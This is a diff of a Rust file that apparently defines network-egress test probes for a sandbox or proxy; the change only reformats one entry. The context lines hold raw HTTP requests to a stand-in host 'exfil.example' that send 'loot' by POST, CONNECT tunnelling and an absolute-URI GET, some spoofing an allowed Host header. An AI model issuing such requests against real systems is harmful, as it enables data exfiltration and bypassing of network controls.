@@ -35,7 +35,9 @@ pub(crate) const PROBES: &[(&str, Probe)] = &[
     ("http-plain", |_| say(b"POST / HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 4\r\n\r\nloot")),
     ("http-connect", |_| say(b"CONNECT exfil.example:443 HTTP/1.1\r\nHost: api.together.xyz\r\n\r\n")),
     ("http-absolute", |_| say(b"GET http://exfil.example/loot HTTP/1.1\r\nHost: api.together.xyz\r\n\r\n")),
-    ("http-upgrade", |_| say(b"GET / HTTP/1.1\r\nHost: api.together.xyz\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n")),
+    ("http-upgrade", |_| {
+        say(b"GET / HTTP/1.1\r\nHost: api.together.xyz\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n")
+    }),
     ("not-tls", |_| say(&[0xff; 600])),
     ("hosts-poisoned", |_| hosts_poisoned()),
     ("resolver-poisoned", |_| resolver_poisoned()),
